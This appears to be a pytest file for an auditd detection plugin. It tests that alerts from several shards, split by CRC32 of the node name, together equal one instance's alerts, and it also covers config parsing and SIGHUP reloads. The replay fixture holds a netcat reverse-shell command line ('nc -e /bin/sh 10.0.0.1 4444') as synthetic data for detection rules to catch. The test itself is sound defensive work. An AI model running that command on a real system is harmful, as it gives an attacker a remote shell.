"""`shard = "K/N"`: several plugin instances on one collector split the
nodes; the union of their alerts is exactly one instance's alerts.

The replay: many nodes' logs from the shared generator interleaved record
by record (bench/fleet.py), plus records without node= and malformed lines,
through our rules and every corpus rule that loads."""

from __future__ import annotations

import json
import signal
import subprocess
import sys
import zlib
from collections import Counter
from pathlib import Path

import pytest

from audisp_eql import limits
from audisp_eql.config import ConfigError, parse_config
from audisp_eql.pipeline import PipelineOptions, build_pipeline
from audisp_eql.rules import load_rules
from audisp_eql.source.shard import Shard, shard_of
from conftest import CORPUS, ROOT
from harness.plugin_config import plugin_argv, write_plugin_config
from harness.procs import stop_process, wait_for
from harness.records import exec_event

sys.path.insert(0, str(ROOT))
from bench.fleet import fleet_log, node_names  # noqa: E402

NODES = 30
EVENTS_PER_NODE = 120


@pytest.fixture(scope="module")
def rules(shared: Path) -> list:
    loaded = load_rules([ROOT / "rules", CORPUS / "rules" / "linux"])
    return loaded.rules


@pytest.fixture(scope="module")
def replay(shared: Path) -> bytes:
    names = node_names(NODES)
    offsets = {name: (i % 5) * 40 for i, name in enumerate(names)}   # skewed clocks too
    data = fleet_log(shared, names, EVENTS_PER_NODE, seed=11, clock_offsets=offsets)
    # This collector's own records (no node=), and lines no shard can parse.
    own = b"".join(line for i in range(5) for line in exec_event(
        900_000 + i, ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"],
        "/usr/bin/nc", pid=70_000 + i, sec=1700000100))
    bad = b"node=web00.dc1.example.net garbage line\nnot a record\n"
    lines = data.splitlines(keepends=True)
    middle = len(lines) // 2
    return b"".join(lines[:middle]) + own + bad + b"".join(lines[middle:])


@pytest.fixture(scope="module")
def single(replay: bytes, rules: list) -> tuple[list[dict], object]:
    """One instance's alerts (shard 1/1) and its pipeline."""
    _docs, alerts, pipeline = run_shard(replay, rules, Shard())
    return alerts, pipeline


def alert_keys(alerts: list[dict]) -> Counter:
    return Counter((a.get("host", {}).get("name"), a["event"]["id"], a["rule"]["id"])
                   for a in alerts)


def run_shard(data: bytes, rules: list, shard: Shard,
              parser: str = "auto") -> tuple[list[dict], list[dict], object]:
    """Documents, alerts and pipeline of one shard. Sequence state gets room
    enough that no bound bites: one instance and N shards have different
    budgets, so where one evicts a partial match the shards (with N budgets)
    may keep it; equality is the claim where no bound bites, and
    `dropped` lets the test check that only per-event drops (join key
    combinations past their bound, the same in any shard) happened."""
    docs: list[dict] = []
    alerts: list[dict] = []
    with limits.lowered(MAX_PENDING_BYTES=256 << 20, MAX_PENDING_PER_RULE=1 << 16):
        pipeline = build_pipeline(PipelineOptions(parser=parser, rules=rules, local_host=False,
                                                  shard=shard),
                                  on_document=docs.append, on_alert=alerts.append)
        pipeline.start_source("replay")
        for start in range(0, len(data), 65536):     # the plugin's read size
            pipeline.feed(data[start:start + 65536])
        pipeline.flush()
    return docs, alerts, pipeline


def dropped(pipeline: object) -> int:
    """Partial matches the pipeline's engine dropped (0 < what it still holds)."""
    stats = pipeline.engine.stats()  # type: ignore[attr-defined]
    assert stats["pending_partial_matches"] > 0
    return stats["evicted_partial_matches"]


def test_shard_spec_parses_and_refuses_with_reasons() -> None:
    assert Shard.parse("2/4") == Shard(2, 4) and str(Shard.parse(" 1/1 ")) == "1/1"
    for bad, reason in (("0/4", "1 to 4"), ("5/4", "1 to 4"), ("1/0", "1 to 1024"),
                        ("2", "K/N"), ("a/b", "K/N"), ("1/2000", "1 to 1024"), ("-1/2", "K/N")):
        with pytest.raises(ValueError, match=reason):
            Shard.parse(bad)


def test_a_node_belongs_to_exactly_one_shard_by_crc32_of_its_name() -> None:
    names = [n.encode() for n in node_names(200)] + [b"", b"\xff\xfe", "nöde".encode()]
    for count in range(1, 9):
        for name in names:
            owners = [k for k in range(1, count + 1) if Shard(k, count).owns(name)]
            assert owners == [zlib.crc32(name) % count + 1] == [shard_of(name, count)]
        assert [k for k in range(1, count + 1) if Shard(k, count).owns(None)] == [1]
    # CRC-32 (ISO-HDLC, zlib's) is fixed: its published check value, and so the
    # same shard in every process and on every machine.
    assert zlib.crc32(b"123456789") == 0xCBF43926
    assert shard_of(b"123456789", 4) == 0x26 % 4 + 1 == 3


@pytest.mark.parametrize("count", [2, 3, 4])
def test_union_of_shards_is_one_instances_alerts(replay: bytes, rules: list, count: int,
                                                 single: tuple) -> None:
    single, whole = single
    assert len(single) > 100                          # the replay makes rules fire
    assert {a.get("host", {}).get("name") for a in single} >= set(node_names(NODES)[:10]) | {None}
    union: list[dict] = []
    shards_dropped = 0
    lines = replay.count(b"\n")
    for index in range(1, count + 1):
        shard = Shard(index, count)
        docs, alerts, pipeline = run_shard(replay, rules, shard)
        union += alerts
        shards_dropped += dropped(pipeline)
        hosts = {d.get("host", {}).get("name") for d in docs}
        assert all(shard.owns(None if h is None else h.encode()) for h in hosts)
        stats = pipeline.source.stats  # type: ignore[attr-defined]
        assert stats.lines + 0 == lines                 # every line read ...
        owned = sum(1 for line in replay.splitlines()
                    if shard.owns(line[5:line.index(b" ")] if line.startswith(b"node=") else None))
        assert stats.skipped_other_shards == lines - owned   # ... the others' dropped unparsed
        assert stats.records + stats.malformed + stats.skipped_other_shards == lines
    assert shards_dropped == dropped(whole)
    assert alert_keys(union) == alert_keys(single)
    assert whole.source.stats.skipped_other_shards == 0  # type: ignore[union-attr]


def test_union_of_shards_with_the_python_parser(replay: bytes, rules: list,
                                                single: tuple) -> None:
    _docs, alone, _p = run_shard(replay, rules, Shard(), parser="python")
    union = [a for k in (1, 2, 3) for a in run_shard(replay, rules, Shard(k, 3), "python")[1]]
    assert len(alone) > 100 and alert_keys(union) == alert_keys(alone)
    assert alert_keys(alone) == alert_keys(single[0])   # both parsers: the same alerts


def test_shard_in_the_config_is_checked_with_file_and_line() -> None:
    assert parse_config('[plugin]\nshard = "3/8"\n').shard == Shard(3, 8)
    assert parse_config("").shard == Shard(1, 1)
    for text, message in (('[plugin]\n\nshard = "9/8"\n', r"<config>:3: plugin\.shard: .*1 to 8"),
                          ("[plugin]\nshard = 2\n", r"<config>:2: plugin\.shard: expected a string"),
                          ('[plugin]\nshard = "half"\n', r'<config>:2: plugin\.shard: .*"K/N"')):
        with pytest.raises(ConfigError, match=message):
            parse_config(text)


def test_real_plugin_instances_split_a_replay(tmp_path: Path, replay: bytes) -> None:
    """Three real plugin processes with shard = "k/3", each fed the whole
    replay on stdin as a collector's auditd would: their alert files together
    hold exactly the alerts of one instance, and each says what it skipped."""
    rules = [ROOT / "rules"]
    replay_path = tmp_path / "replay.log"
    replay_path.write_bytes(replay)
    results = {}
    for shard in ("1/1", "1/3", "2/3", "3/3"):
        name = shard.replace("/", "of")
        alerts = tmp_path / f"alerts-{name}.json"
        config = write_plugin_config(tmp_path, rules, alerts, parent_from_proc=False,
                                     plugin_extra=f'shard = "{shard}"', burst=0,
                                     name=f"{name}.toml")
        with open(replay_path, "rb") as stdin:
            done = subprocess.run(plugin_argv(config), stdin=stdin, capture_output=True,
                                  text=True, timeout=300, cwd=tmp_path)
        assert done.returncode == 0, done.stderr
        lines = alerts.read_text().splitlines() if alerts.exists() else []
        results[shard] = ([json.loads(line) for line in lines], done.stderr)
    single, _ = results["1/1"]
    assert len(single) > 20
    union = [a for shard in ("1/3", "2/3", "3/3") for a in results[shard][0]]
    assert alert_keys(union) == alert_keys(single)
    for shard in ("1/3", "2/3", "3/3"):
        stderr = results[shard][1]
        assert f"shard {shard}" in stderr
        skipped = int(stderr.rsplit("skipped_other_shards=", 1)[1].split()[0])
        assert 0 < skipped < replay.count(b"\n")


def test_sighup_moves_the_plugin_to_another_shard(tmp_path: Path) -> None:
    """A reload that changes `shard` takes effect for the next lines; the
    event of the old shard's node in progress is evaluated first, and a line
    cut by the read at that moment goes on whole in the new shard's source."""
    from test_daemon import MATCHES, Plugin, write_config
    one = next(n for n in node_names(50) if Shard(1, 2).owns(n.encode()))
    two = next(n for n in node_names(50) if Shard(2, 2).owns(n.encode()))

    def event(node: str, serial: int, eoe: bool = True) -> bytes:
        argv, exe = MATCHES[0]
        lines = exec_event(serial, argv, exe, pid=6000 + serial, eoe=eoe)
        return b"".join(f"node={node} ".encode() + line for line in lines)

    config = write_config(tmp_path)
    text = config.read_text().replace("[plugin]\n", '[plugin]\nshard = "2/2"\n', 1)
    config.write_text(text)
    plugin = Plugin(tmp_path, config)
    try:
        plugin.wait_log("shard 2/2")
        cut = event(two, 3, eoe=False)
        plugin.send(event(one, 1) + event(two, 2) + cut[:-10])   # a line cut by the read
        assert wait_for(lambda: [a["host"]["name"] for a in plugin.alerts()] == [two], 15.0)
        config.write_text(text.replace('shard = "2/2"', 'shard = "1/2"'))
        plugin.proc.send_signal(signal.SIGHUP)
        plugin.wait_log("reloaded")
        # node `two`'s event 3, in progress at the reload, was evaluated then
        assert wait_for(lambda: len(plugin.alerts()) == 2, 15.0)
        plugin.send(cut[-10:] + event(two, 4) + event(one, 5))
        assert wait_for(lambda: [(a["host"]["name"], a["event"]["id"].split(":")[1])
                                 for a in plugin.alerts()] ==
                        [(two, "2"), (two, "3"), (one, "5")], 15.0), plugin.alerts()
        assert plugin.close() == 0
        # The rest of the cut line was not taken for a line of its own (shard 1
        # parses lines without node=: it would have been reported as bad input).
        assert "bad input" not in plugin.stderr_path.read_text()
    finally:
        stop_process(plugin.proc)
        plugin.syslog.close()
